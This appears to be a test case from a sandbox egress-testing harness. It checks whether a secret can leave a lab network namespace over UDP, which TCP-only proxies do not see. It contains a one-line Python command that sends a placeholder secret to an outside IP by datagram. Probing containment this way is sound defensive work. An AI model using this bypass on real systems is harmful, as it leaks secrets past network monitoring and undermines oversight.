"""sends a secret in a datagram"""

from evidence import secret_left as succeeded

SHAPE = "proxies see TCP alone: egress by UDP"
PROMISE = "P28"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@SECRET@", ("93.184.216.40", 9000))
"""
